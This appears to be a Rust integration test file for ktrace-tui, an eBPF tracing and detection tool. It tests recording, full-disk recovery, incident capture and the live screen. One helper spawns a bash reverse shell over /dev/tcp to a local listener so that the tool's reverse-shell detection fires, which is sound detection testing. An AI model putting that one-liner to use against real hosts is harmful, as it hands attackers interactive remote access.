//! Recording for real: real probes, a busy node, a disk that is full, incidents, and the live screen.
#![allow(clippy::unwrap_used, clippy::panic, reason = "tests")]

mod common;

use std::fs::File;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::privileged;
use common::terminal::Terminal;
use ktrace_tui::model::Event;
use ktrace_tui::store::{Next, Recording, Verdict, walk};

const NEEDS: &str = "a kernel with BTF and BPF ring buffers";
const PROGRAM: &str = env!("CARGO_BIN_EXE_ktrace-tui");
/// Events that the round trip is made of, at least.
const MANY: usize = 100_000;

/// Waits until `look` says so.
fn until(what: &str, mut look: impl FnMut() -> bool) {
    let begun = Instant::now();
    while !look() {
        assert!(begun.elapsed() < Duration::from_secs(60), "still waiting until {what}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// A `watch` whose stderr is read line by line.
struct Watched {
    child: Child,
    said: BufReader<std::process::ChildStderr>,
}

impl Watched {
    fn start(mut command: Command) -> Watched {
        let mut child = command.stdin(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
        let said = BufReader::new(child.stderr.take().unwrap());
        let mut watched = Watched { child, said };
        watched.hear("ready");
        watched
    }

    /// Reads on to a line that holds this.
    fn hear(&mut self, what: &str) -> String {
        let mut heard = Vec::new();
        loop {
            let mut line = String::new();
            let read = self.said.read_line(&mut line).unwrap();
            assert!(read > 0, "it ended without saying `{what}`; it said {heard:?}");
            if line.contains(what) {
                return line;
            }
            heard.push(line);
        }
    }

    /// Ends it as a user does; gives what else it says.
    fn end(mut self) -> String {
        let sent = Command::new("kill").arg("-INT").arg(self.child.id().to_string()).status().unwrap();
        assert!(sent.success());
        let mut rest = String::new();
        self.said.read_to_string(&mut rest).unwrap();
        assert!(self.child.wait().unwrap().success(), "{rest}");
        rest
    }
}

/// It ends by itself when a test fails.
fn watch(arguments: &[&str]) -> Command {
    let mut command = Command::new(PROGRAM);
    command.args(["watch", "--no-runtimes", "--ring-size", "64MiB", "--duration", "120s"]).args(arguments);
    command
}

fn verdict(path: &Path) -> Verdict {
    Recording::open(path).unwrap().verify(None, &mut |_, _| true).unwrap().verdict
}

/// Makes some events: four for each connection, three for each program.
fn busy(connections: usize, programs: usize) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let programs = std::thread::spawn(move || {
        for _ in 0..programs {
            assert!(Command::new("/bin/true").status().unwrap().success());
        }
    });
    for _ in 0..connections {
        let out = TcpStream::connect(address).unwrap();
        drop(listener.accept().unwrap());
        drop(out);
    }
    programs.join().unwrap();
}

#[test]
fn what_watch_printed_and_what_it_recorded_are_the_same() {
    if !privileged(NEEDS) {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let (printed, recorded) = (folder.path().join("printed"), folder.path().join("it.ktrace"));
    let file = recorded.to_str().unwrap();
    let mut command = watch(&["--format", "json", "--only", "events", "--record", file]);
    command.stdout(File::create(&printed).unwrap());
    let watched = Watched::start(command);
    busy(26_000, 3_000);
    std::thread::sleep(Duration::from_millis(500));
    let said = watched.end();
    assert!(!said.contains("could not be written"), "{said}");
    assert_eq!(verdict(&recorded), Verdict::Whole);
    let told = Command::new(PROGRAM).args(["events", file, "--format", "json"]).output().unwrap();
    assert!(told.status.success());
    // Other processes of this machine are among them: no line is shown.
    let printed = std::fs::read(&printed).unwrap();
    let (printed, told): (Vec<&[u8]>, Vec<&[u8]>) =
        (printed.split(|byte| *byte == b'\n').collect(), told.stdout.split(|byte| *byte == b'\n').collect());
    let differs = printed.iter().zip(&told).position(|(printed, told)| printed != told);
    assert_eq!(
        (differs, printed.len()),
        (None, told.len()),
        "the place of the first line that differs, and how many there are"
    );
    assert!(printed.len() > MANY, "{} events", printed.len());
}

#[test]
fn a_full_disk_is_said_and_what_waits_is_written_when_there_is_room() {
    if !privileged(NEEDS) {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let (place, out) = (folder.path().join("small"), folder.path().join("out.ktrace"));
    std::fs::create_dir(&place).unwrap();
    // A mount namespace of its own: nobody else sees the small disk, and it goes with the shell.
    let script = format!(
        "set -e; mount -t tmpfs -o size=90m none {0}; head -c 86000000 /dev/zero >{0}/ballast; set +e; \
         {PROGRAM} watch --no-runtimes --only findings --duration 120s --record {0}/it.ktrace >/dev/null & \
         watch=$!; trap 'kill -INT $watch' INT; wait; wait; cp {0}/it.ktrace {1}",
        place.display(),
        out.display()
    );
    let mut command = Command::new("unshare");
    command.args(["--mount", "sh", "-c", &script]);
    let mut watched = Watched::start(command);
    let begun = Instant::now();
    // Until the few megabytes that are left are full.
    let more = std::thread::spawn(move || {
        while begun.elapsed() < Duration::from_secs(6) {
            busy(2_000, 20);
        }
    });
    let said = watched.hear("no room on the disk");
    assert!(said.contains("tracing goes on"), "{said}");
    let marked = Command::new("/bin/sleep").arg("0.0123").spawn().unwrap().wait_with_output().unwrap();
    assert!(marked.status.success());
    more.join().unwrap();
    let ballast = format!("/proc/{}/root{}/ballast", watched.child.id(), place.display());
    std::fs::remove_file(ballast).unwrap();
    let said = watched.hear("written again");
    let rest = watched.end();
    assert!(said.contains("nothing is missing") || said.contains("events are not in it"), "{said}");
    assert_eq!(verdict(&out), Verdict::Whole, "{rest}");
    // What happened while there was no room is there.
    let hits = Command::new(PROGRAM)
        .args(["hunt", out.to_str().unwrap(), "argv = \"/bin/sleep 0.0123\"", "--count"])
        .output()
        .unwrap();
    let count: u64 = String::from_utf8(hits.stdout).unwrap().trim().parse().unwrap();
    assert!(count >= 2, "{count}");
}

/// Starts a shell that calls somebody, who types into it.
fn reverse_shell() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut shell = Command::new("bash")
        .args(["-c", &format!("exec bash -i <>/dev/tcp/127.0.0.1/{port} >&0 2>&0")])
        .spawn()
        .unwrap();
    let (mut caller, _) = listener.accept().unwrap();
    caller.write_all(b"id\nexit\n").unwrap();
    shell.wait().unwrap();
}

#[test]
fn a_recording_of_an_incident_holds_what_came_before_it() {
    if !privileged(NEEDS) {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let files = folder.path().join("incidents");
    let mut command = watch(&["--only", "findings", "--on-incident", files.to_str().unwrap()]);
    command.stdout(Stdio::null());
    let watched = Watched::start(command);
    let mut before = Command::new("/bin/sleep").arg("0.0321").spawn().unwrap();
    before.wait().unwrap();
    std::thread::sleep(Duration::from_secs(2));
    reverse_shell();
    let of = |folder: &Path| -> Vec<PathBuf> {
        let all = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
        all.filter(|path| path.extension().is_some_and(|it| it == "ktrace")).collect()
    };
    until("a recording is begun", || files.exists() && !of(&files).is_empty());
    let said = watched.end();
    let made = of(&files);
    assert_eq!(made.len(), 1, "{said}");
    assert_eq!(verdict(&made[0]), Verdict::Whole);
    let mut found = Vec::new();
    let mut pids = Vec::new();
    walk(&mut Recording::open(&made[0]).unwrap(), &mut |next| {
        match next {
            Next::Event(_, Event::Process(event)) if event.kind.name() == "exec" => pids.push(event.process.pid),
            Next::Found(it) => found.push(format!("{:?}", it.entry)),
            _ => {}
        }
        true
    })
    .unwrap();
    assert!(pids.contains(&before.id()), "what came before is not in it");
    assert!(found.iter().any(|entry| entry.contains("reverse_shell")), "{} things were found", found.len());
}

#[test]
fn the_live_screen_records_and_saves_with_the_notes_that_were_written() {
    if !privileged(NEEDS) {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let (all, saved) = (folder.path().join("all.ktrace"), folder.path().join("saved.ktrace"));
    let command = format!("{PROGRAM} --no-runtimes --record {}", all.display());
    let terminal = Terminal::start(&command, (120, 40));
    terminal.shows("source ✓");
    let mut marker = Command::new("/bin/sleep").arg("0.0213").spawn().unwrap();
    marker.wait().unwrap();
    std::thread::sleep(Duration::from_secs(1));
    terminal.keys("B");
    terminal.shows("ote");
    terminal.types("here it began");
    terminal.keys("Enter");
    std::thread::sleep(Duration::from_millis(500));
    terminal.keys("s");
    terminal.shows("Save the last minutes");
    // Whatever name is offered.
    terminal.keys("C-u");
    terminal.types(saved.to_str().unwrap());
    terminal.keys("Enter");
    terminal.shows("saved to");
    terminal.keys("q");
    terminal.ends();
    for file in [&all, &saved] {
        assert_eq!(verdict(file), Verdict::Whole, "{}", file.display());
        let mut recording = Recording::open(file).unwrap();
        let mut execs = 0;
        walk(&mut recording, &mut |next| {
            if let Next::Event(_, Event::Process(event)) = next {
                execs += usize::from(event.process.pid == marker.id() && event.kind.name() == "exec");
            }
            true
        })
        .unwrap();
        let notes = ktrace_tui::store::Tape::notes(&mut recording);
        assert_eq!((execs, notes.len()), (1, 1), "{}", file.display());
        assert_eq!(notes[0].text, "here it began");
    }
}
